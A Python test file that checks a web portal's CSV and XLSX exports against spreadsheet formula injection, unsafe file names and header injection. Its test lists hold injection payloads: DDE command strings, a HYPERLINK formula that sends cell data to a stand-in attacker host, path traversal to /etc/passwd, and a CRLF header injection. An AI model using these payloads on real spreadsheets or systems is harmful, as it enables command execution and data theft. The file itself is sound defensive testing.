"""Tables for Excel, read back from their real bytes: no text becomes a formula, whatever people wrote."""

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from flask import Flask
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from portal.core import spreadsheet
from portal.core.spreadsheet import CUT, csv_bytes, csv_response, file_name, sheet_names, xlsx_bytes, xlsx_response

pytestmark = pytest.mark.nodb
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
ANYTHING = st.text(st.characters(codec=None), max_size=60)
TRICKY = st.text(st.sampled_from("=+-@\t\r\n ＝＋－＠'\"\ufeff\u200b\xa0|!;,aZ1ø\x00\u0301"), max_size=12)
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
NOT_SEEN = "\t\r\n \u00a0\u2007\u202f\ufeff\u200b\u200c\u200d\u2060\"'“”«»"

DANGEROUS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    '"=1',
    "'=1",
    "''=1",
    "«=1",
    "\ufeff=1",
    "\u200b=1",
    "\u00a0\u2060 =1",
    "\u0301=1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1",
    "\x00=1",
    "\x1b\x07@x",
    "cmd|' /C calc'!A0",
    " MSEXCEL|'..\\calc'!x",
    "DDE|a\nb!c",
    '=HYPERLINK("https://evil.example?x="&A1)',
    "-5 grader",
]
HARMLESS = [
    "",
    "a=1",
    "Ø. Toten",
    "kr 100,-",
    "1. mars",
    "a - b",
    "ja|nei",
    "Hei!",
    "«Varm mat»",
    "\U0001f468‍\U0001f469",
]


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";", strict=True))


class Book:
    """An XLSX as the bytes say."""

    def __init__(self, content: bytes) -> None:
        self.zip = zipfile.ZipFile(io.BytesIO(content))
        assert self.zip.testzip() is None
        self.parts = {name: etree.fromstring(self.zip.read(name)) for name in self.zip.namelist()}
        self.shared = [
            "".join(node.itertext("{*}t"))
            for node in self.parts.get("xl/sharedStrings.xml", etree.Element("x")).iterfind("m:si", NS)
        ]

    @property
    def names(self) -> list[str]:
        return [node.get("name") for node in self.parts["xl/workbook.xml"].iterfind(".//m:sheet", NS)]

    def cells(self, number: int = 1) -> dict[str, tuple[str, str]]:
        """{place: (type, value)}; type is `s` for text and `n` for numbers."""
        found = {}
        for cell in self.parts[f"xl/worksheets/sheet{number}.xml"].iterfind(".//m:c", NS):
            value = cell.findtext("m:v", namespaces=NS)
            if value is not None:
                kind = cell.get("t", "n")
                text = self.shared[int(value)] if kind == "s" else value
                # What stands as _x0041_ in a text is written _x005F_x0041_.
                found[cell.get("r")] = (kind, text.replace("_x005F_", "_"))
        return found

    def has(self, path: str) -> bool:
        return any(part.find(path, NS) is not None for part in self.parts.values())


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_that_could_be_a_formula_is_text_in_both_kinds(text: str) -> None:
    kept = "'" + "".join(c for c in text.replace("\r", "\n") if c >= " " or c in "\t\n")
    inside = re.sub(r"^('[\t\n])=", r"\1'=", kept)
    assert read_csv(csv_bytes([text], [[text]])) == [[inside], [inside]]
    book = Book(xlsx_bytes([("Ark", [text], [[text]])]))
    assert book.cells() == {"A1": ("s", kept), "A2": ("s", kept)}


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text: str) -> None:
    assert read_csv(csv_bytes([text], [[text]])) == [[text], [text]]
    cells = Book(xlsx_bytes([("Ark", ["x"], [[text]])])).cells()
    assert cells.get("A2", ("s", "")) == ("s", text)


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("a,=cmd()", "a,'=cmd()"),
        ("a;@x", "a;'@x"),
        ("a\t=1", "a\t'=1"),
        ("a\n=1+1", "a\n'=1+1"),
        ("a, -2+3+cmd()", "a, '-2+3+cmd()"),
        ('a,"=1', "a,\"'=1"),
        ("pris: 100,-", "pris: 100,-"),
        ("ring, +47 611 12 345", "ring, +47 611 12 345"),
        ("a\n- b\n- c", "a\n- b\n- c"),
        ("rabatt, -10 %", "rabatt, -10 %"),
    ],
)
def test_a_program_with_another_separator_finds_no_formula_inside_a_csv_text(text: str, kept: str) -> None:
    assert read_csv(csv_bytes(["x"], [[text]]))[1] == [kept]


def test_numbers_dates_and_moments_keep_their_type() -> None:
    moment = datetime(2026, 7, 1, 7, 30, 59, tzinfo=UTC)
    row = [-5, 0, 1.5, Decimal("-2.50"), 1e-7, date(2026, 3, 4), moment, True, False, None]
    assert read_csv(csv_bytes(["x"], [row]))[1] == [
        "-5",
        "0",
        "1,5",
        "-2,50",
        "0,0000001",
        "2026-03-04",
        "2026-07-01 09:30",
        "Ja",
        "Nei",
        "",
    ]
    cells = Book(xlsx_bytes([("Ark", ["x"], [row])])).cells()
    assert {place: cell for place, cell in cells.items() if place != "A1"} == {
        "A2": ("n", "-5"),
        "B2": ("n", "0"),
        "C2": ("n", "1.5"),
        "D2": ("n", "-2.5"),
        "E2": ("n", "1E-07"),
        "F2": ("n", "46085"),
        "G2": ("n", "46204.39583333334"),
        "H2": ("s", "Ja"),
        "I2": ("s", "Nei"),
    }


def test_numbers_that_the_format_cannot_hold_are_text_or_empty() -> None:
    row = [10**20, float("nan"), float("inf"), Decimal("1e400"), date(1814, 5, 17), "974760673", "0001"]
    cells = Book(xlsx_bytes([("Ark", ["x"], [row])])).cells()
    assert {place: cell for place, cell in cells.items() if place != "A1"} == {
        "A2": ("s", "100000000000000000000"),
        "E2": ("s", "1814-05-17"),
        "F2": ("s", "974760673"),
        "G2": ("s", "0001"),
    }
    assert read_csv(csv_bytes(["x"], [row[:3]]))[1] == ["100000000000000000000", "", ""]


def test_csv_is_as_norwegian_excel_wants_it() -> None:
    content = csv_bytes(["Navn", "Sted"], [["Ås; «Æ»", 'a "b"']])
    assert content == b'\xef\xbb\xbf"Navn";"Sted"\r\n' + '"Ås; «Æ»";"a ""b"""\r\n'.encode()


@pytest.mark.parametrize("length", [32_766, 32_767])
def test_a_long_text_that_fits_is_whole(length: int) -> None:
    assert Book(xlsx_bytes([("Ark", ["x"], [["a" * length]])])).cells()["A2"][1] == "a" * length


@pytest.mark.parametrize("text", ["a" * 32_768, "a" * 1_000_000, "\U0001f600" * 16_384, "=" + "a" * 32_767])
def test_a_text_that_is_too_long_is_cut_and_says_so(text: str) -> None:
    kept = Book(xlsx_bytes([("Ark", ["x"], [[text]])])).cells()["A2"][1]
    assert 32_765 <= len(kept.encode("utf-16-le")) // 2 <= 32_767
    assert kept.endswith(CUT)
    assert read_csv(csv_bytes(["x"], [[text]]))[1] == [kept]


def test_nothing_is_hidden_and_nobody_is_named() -> None:
    content = xlsx_bytes(
        [("En", ["x", "y"], [["https://example.org", "mailto:a@example.org"], [1, 2]]), ("To", [], [])]
    )
    book = Book(content)
    for path in (".//m:f", ".//m:hyperlink", ".//m:definedName[@hidden]", ".//*[@hidden='1']", ".//*[@state='hidden']"):
        assert not book.has(path)
    assert not [name for name in book.zip.namelist() if re.search(r"comment|external|vba|custom|drawing|link", name)]
    core = {etree.QName(node).localname: node.text for node in book.parts["docProps/core.xml"]}
    assert {name: core[name] for name in ("creator", "lastModifiedBy")} == {"creator": None, "lastModifiedBy": None}
    assert "Company" not in {etree.QName(node).localname for node in book.parts["docProps/app.xml"] if node.text}


def test_sheet_names_are_such_as_excel_takes() -> None:
    given = ["Behov [2026]: a/b*c?\\d", "", "''", "History", "x" * 40, "X" * 40, "Ås", "ås", "'kari'", "a\x00\u0007b"]
    names = sheet_names(given)
    assert names == [
        "Behov 2026 a b c d",
        "Ark",
        "Ark (2)",
        "Ark (3)",
        "x" * 31,
        "X" * 27 + " (2)",
        "Ås",
        "ås (2)",
        "kari",
        "ab",
    ]
    assert Book(xlsx_bytes([(name, [], []) for name in given])).names == names


@given(st.lists(ANYTHING, min_size=1, max_size=5))
@settings(max_examples=100, deadline=None)
def test_any_sheet_names_make_a_book(given: list[str]) -> None:
    names = Book(xlsx_bytes([(name, [], []) for name in given])).names
    assert len({name.casefold() for name in names}) == len(given)


@given(st.lists(st.lists(TRICKY | ANYTHING, min_size=1, max_size=3), min_size=1, max_size=3))
@settings(max_examples=200, deadline=None)
def test_no_text_begins_as_a_formula(rows: list[list[str]]) -> None:
    table = read_csv(csv_bytes(["x"], rows))[1:]
    assert [len(row) for row in table] == [len(row) for row in rows]
    cells = Book(xlsx_bytes([("Ark", ["x"], rows)])).cells()
    texts = [text for row in table for text in row] + [text for _kind, text in cells.values()]
    assert {kind for kind, _text in cells.values()} == {"s"}
    for text in texts:
        assert text.startswith("'") or text.lstrip(NOT_SEEN)[:1] not in SIGNS, ascii(text)
        assert text[:1] not in ("\t", "\r", "\n", *SIGNS), ascii(text)
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)


@given(st.integers() | st.floats() | st.decimals() | st.dates() | st.datetimes() | st.booleans())
@settings(max_examples=200, deadline=None)
def test_any_value_makes_a_file(value: object) -> None:
    assert len(read_csv(csv_bytes(["x"], [[value]]))) == 2  # type: ignore[list-item]
    Book(xlsx_bytes([("Ark", ["x"], [[value]])]))  # type: ignore[list-item]


def test_more_rows_than_a_sheet_holds_go_on_in_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spreadsheet, "ROW_LIMIT", 3)
    book = Book(xlsx_bytes([("Ark", ["x"], ([number] for number in range(5)))]))
    assert book.names == ["Ark", "Ark (2)", "Ark (3)"]
    assert [list(book.cells(number).values())[1:] for number in (1, 2, 3)] == [
        [("n", "0"), ("n", "1")],
        [("n", "2"), ("n", "3")],
        [("n", "4")],
    ]


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("Leverandører 2026: juni", "Leverandører-2026-juni.csv"),
        ("../../etc/passwd", "etc-passwd.csv"),
        ('a"b\r\nX-Evil: 1', "a-b-X-Evil-1.csv"),
        ("=cmd", "cmd.csv"),
        ("", "tabell.csv"),
        ("...", "tabell.csv"),
        ("CON", "CON-.csv"),
        ("nul.txt", "nul-.txt.csv"),
        ("sla\u202evsc", "slavsc.csv"),
        ("å" * 200, "å" * 80 + ".csv"),
    ],
)
def test_file_names_are_safe(name: str, kept: str) -> None:
    assert file_name(name, "csv") == kept


@given(ANYTHING)
@settings(max_examples=100, deadline=None)
def test_any_name_makes_a_header(name: str) -> None:
    with Flask(__name__).test_request_context():
        header = csv_response(name, ["x"], []).headers["Content-Disposition"]
    assert header.startswith("attachment; filename")
    assert not re.search(r"[\r\n]", header)


def test_the_answers_are_downloads_that_nobody_keeps() -> None:
    with Flask(__name__).test_request_context():
        table = csv_response("Innspill på mat", ["x"], [["y"]])
        book = xlsx_response("Innspill på mat", [("Ark", ["x"], [["y"]])])
    for answer, kind, ending in ((table, "text/csv", "csv"), (book, spreadsheet.XLSX, "xlsx")):
        assert answer.mimetype == kind
        assert answer.headers["Content-Disposition"].startswith("attachment; filename")
        assert f"filename*=UTF-8''Innspill-p%C3%A5-mat.{ending}" in answer.headers["Content-Disposition"]
        assert answer.headers["Cache-Control"] == "private, no-store"
        assert "sandbox" in answer.headers["Content-Security-Policy"]
    assert table.content_type == "text/csv; charset=utf-8"
